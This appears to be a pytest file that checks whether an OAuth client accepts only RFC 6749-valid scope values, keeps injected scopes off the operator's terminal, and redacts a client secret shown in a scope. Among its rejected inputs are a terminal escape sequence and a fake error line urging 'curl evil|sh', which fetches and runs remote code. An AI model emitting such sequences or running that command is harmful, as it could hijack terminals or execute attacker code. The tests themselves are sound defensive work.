"""Review 4 (H10): the token endpoint's ``scope`` reaches the operator's terminal only as RFC 6749 allows."""

from __future__ import annotations

import pytest

from addon.cli.oauth import _shown_scope
from addon.oauth.client import Tokens, valid_scope


@pytest.mark.parametrize("scope", ["mcp", "read write", "mcp:tools https://x.example/read"])
def test_ordinary_scopes_are_kept(scope: str) -> None:
    assert valid_scope(scope)
    assert Tokens.from_response({"access_token": "fake-access-token-1", "scope": scope}).scope == scope


@pytest.mark.parametrize("scope", ["\x1b]0;pwned\x07mcp", "mcp\r\nError: run curl evil|sh", "a  b", " mcp", "mcp ",
                                   "x" * 2000, 'say "hi"', "back\\slash", "caf\u00e9", 7])
def test_other_scopes_are_not_kept_nor_shown(scope: object) -> None:
    assert not valid_scope(scope)
    assert Tokens.from_response({"access_token": "fake-access-token-1", "scope": scope}).scope is None
    if isinstance(scope, str):
        assert _shown_scope(scope) == "(not shown: not an RFC 6749 scope)"


def test_a_secret_in_a_scope_is_redacted_when_shown() -> None:
    from addon.ops import logscrub

    logscrub.remember_values([("OAUTH_CLIENT_SECRET", "fake-client-secret-e5aaafda")])
    assert "fake-client-secret-e5aaafda" not in _shown_scope("mcp client_secret=fake-client-secret-e5aaafda")
